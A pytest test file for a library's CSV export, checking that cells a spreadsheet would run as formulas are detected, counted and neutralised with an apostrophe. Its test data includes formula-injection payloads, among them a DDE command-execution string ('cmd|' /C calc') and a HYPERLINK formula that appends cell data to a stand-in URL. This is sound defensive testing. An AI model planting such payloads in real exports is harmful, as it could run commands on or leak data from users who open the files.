"""Cells that spreadsheets would run: kept as they are, counted, or made safe."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from skseg import MECERuleSegmenter
from skseg._core._csv_files import (
    csv_text,
    formula_cells,
    spreadsheet_safe_frame,
    write_csv,
)
from skseg._files._csv_cells import formulas, neutralised
from skseg.exceptions import InvalidParameterError

FORMULAS = [
    *["=1+1", "+a", "-a", "@SUM(1)", "\tx", "\rx", "\nx", "\0x"],
    *["＝1", "＋a", "－a", "＠a", " =1", "\ufeff=1", "\xa0=1", "\t=1", "\r\n=1"],
    *["-", "=", "--5", "-5-5", "-5=1", "+1e", "-inf", "-5.2.", "=1\n", "-1 days"],
    *["=cmd|' /C calc'!A0", '=HYPERLINK("http://x.org?a="&A1)', "-2+3+cmd|' /C x'!A0"],
]
# Run where the spreadsheet splits at ; or at the end of a line.
SPLIT = {
    "a;=1": "a;'=1",
    'a;"=1': "a;'\"=1",
    "a; @b": "a;' @b",
    "a\n-b": "a\n'-b",
    "a\t=1": "a\t'=1",
    "1;+2;=3": "1;+2;'=3",
}
PLAIN = [
    *["", "a", "a=1", "a-b", "a,=1", "7", "007", "-5.2", "+5", "-1e5", "+1.5E-7"],
    *[
        "-.5",
        "-1,234.50",
        "+49170123456",
        "-12%",
        " -5",
        "-5 ",
        "a;-5",
        "a;b",
        "1;-5;+2",
    ],
    *["'", "'a", "'-5", "(1)", "$1", "%", "1-1", "a@b.org", "x\ny", "_=1", "1;-5;+2"],
]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_text_that_would_be_run_gets_one_apostrophe(text: str) -> None:
    assert formulas([text]) == [text]
    assert neutralised(text) == f"'{text}"
    assert formulas([f"'{text}"]) == []
    # Text that looks made safe already stays apart from what is.
    assert neutralised(f"'{text}") == f"''{text}"


@pytest.mark.parametrize("text", SPLIT, ids=ascii)
def test_what_follows_a_separator_in_a_cell_is_made_safe_too(text: str) -> None:
    assert formulas([text]) == [text]
    assert neutralised(text) == SPLIT[text]
    assert formulas([SPLIT[text]]) == []


@pytest.mark.parametrize("text", PLAIN, ids=ascii)
def test_numbers_and_other_text_are_not_touched(text: str) -> None:
    assert formulas([text]) == []
    assert neutralised(text) == text


def test_a_formula_is_found_among_others() -> None:
    assert formulas([*PLAIN, *FORMULAS, *SPLIT]) == [*FORMULAS, *SPLIT]


TEXTS = st.text(st.sampled_from("=+-@＝'\" ;,\t\r\n\0\ufeff\x1fa5."), max_size=6)


@given(TEXTS, TEXTS)
def test_different_texts_stay_different_and_safe(one: str, other: str) -> None:
    assert (neutralised(one) == neutralised(other)) == (one == other)
    assert formulas([neutralised(one), neutralised(other)]) == []
    assert neutralised(one).replace("'", "") == one.replace("'", "")
    assert formulas([one, other]) == [t for t in (one, other) if formulas([t])]


@given(st.lists(st.tuples(TEXTS, TEXTS, st.floats()), min_size=1))
def test_csv_gives_back_every_cell(rows: list[tuple[str, str, float]]) -> None:
    frame = pd.DataFrame(rows, columns=["=id", "b\rc", "x"])
    for written in (frame, spreadsheet_safe_frame(frame)):
        header, *cells = csv.reader(io.StringIO(csv_text(written), newline=""))
        assert header == list(written)
        assert [row[:2] for row in cells] == written.iloc[:, :2].to_numpy().tolist()
    safe = spreadsheet_safe_frame(frame)
    assert formula_cells(safe) == {}
    pd.testing.assert_series_equal(safe["x"], frame["x"])


def test_cells_are_counted_by_column_and_the_header_is_one_of_them() -> None:
    frame = pd.DataFrame(
        {
            "id": ["=1", "=1", "b", None],
            "=x": [1, 2, 3, -4],
            "kind": pd.Categorical(["-a", "b", "b", "-a"]),
            "mixed": ["@", -1, -1.5, None],
            "x": [-1.5, -np.inf, np.inf, np.nan],
            "gone": pd.to_timedelta([-1, 2, 3, 4], unit="D"),
        }
    )
    assert formula_cells(frame) == {"id": 2, "=x": 1, "kind": 2, "mixed": 1}
    safe = spreadsheet_safe_frame(frame)
    assert list(safe) == ["id", "'=x", "kind", "mixed", "x", "gone"]
    assert safe["id"].to_list()[:3] == ["'=1", "'=1", "b"]
    assert safe["kind"].to_list() == ["'-a", "b", "b", "'-a"]
    assert safe["mixed"].to_list()[:3] == ["'@", -1, -1.5]
    assert formula_cells(safe) == {}
    # The frame itself is not changed.
    assert list(frame) == ["id", "=x", "kind", "mixed", "x", "gone"]
    assert frame["id"].to_list()[0] == "=1"


def test_rules_that_begin_with_a_number_are_no_reason_for_a_warning() -> None:
    X = pd.DataFrame({"x": [-9.0, -2.0, 3.0]})
    rules = {"Middle": "-5 < x <= 1"}
    segmenter = MECERuleSegmenter(rules, default="Rest").fit(X)
    # Warnings are errors here.
    assert ",-5 < x <= 1," in str(segmenter.to_csv(dialect=None))
    text = segmenter.to_csv(dialect=None, spreadsheet_safe=True)
    assert ",'-5 < x <= 1," in str(text)


def test_lists_and_texts_in_one_column_are_told_apart() -> None:
    frame = pd.DataFrame({"x": pd.Series([["=1"], "=1", None, 2], dtype=object)})
    assert formula_cells(frame) == {"x": 1}


def test_columns_of_one_name_are_counted_together() -> None:
    frame = pd.DataFrame([["=a", "b"], ["=c", "=d"]], columns=["x", "x"])
    assert formula_cells(frame) == {"x": 3}
    safe = spreadsheet_safe_frame(frame)
    assert safe.to_numpy().tolist() == [["'=a", "b"], ["'=c", "'=d"]]


def test_large_frames_are_written_in_parts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("skseg._core._csv_files._CHUNK", 2)
    frame = pd.DataFrame({"a": ["x", "\r", "y\n", None, "é"], "b": [1.5, 2, 3, 4, 5]})
    for n_rows in range(6):
        write_csv(frame[:n_rows], tmp_path / "a.csv")
        text = (tmp_path / "a.csv").read_bytes().decode()
        assert text == csv_text(frame[:n_rows])
        assert text.count("\r\n") == 0


@pytest.fixture
def segmenter() -> MECERuleSegmenter:
    X = pd.DataFrame({"x": [1.0, 2.0, 3.0]})
    playbook = {"-Low": '=HYPERLINK("http://x.org")', "Rest": "call"}
    rules = {"-Low": "x < 2"}
    return MECERuleSegmenter(rules, default="Rest", playbook=playbook).fit(X)


def test_a_strategy_is_written_as_it_is_with_a_warning(
    segmenter: MECERuleSegmenter, tmp_path: Path
) -> None:
    match = r"^2 cells in the columns 'name', 'action' begin like a formula, "
    with pytest.warns(UserWarning, match=match) as caught:
        text = segmenter.to_csv(dialect=None)
    assert caught[0].filename == __file__
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[-1]["name"] == "-Low"
    with pytest.warns(UserWarning, match=match):
        assert segmenter.to_csv(tmp_path / "a.csv", dialect=None) is None
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == text


def test_what_the_warning_advises_ends_it(
    segmenter: MECERuleSegmenter, tmp_path: Path
) -> None:
    options: dict[str, Any] = {"dialect": None, "spreadsheet_safe": True}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        text = segmenter.to_csv(**options)
        segmenter.to_csv(tmp_path / "a.csv", **options)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[-1]["name"] == "'-Low"
    assert rows[-1]["action"] == '\'=HYPERLINK("http://x.org")'
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == text


@pytest.mark.parametrize("value", ["no", 1, None], ids=str)
def test_whether_it_is_safe_is_said_by_true_or_false(
    segmenter: MECERuleSegmenter, value: Any
) -> None:
    with pytest.raises(InvalidParameterError, match="must be True or False"):
        segmenter.to_csv(spreadsheet_safe=value)
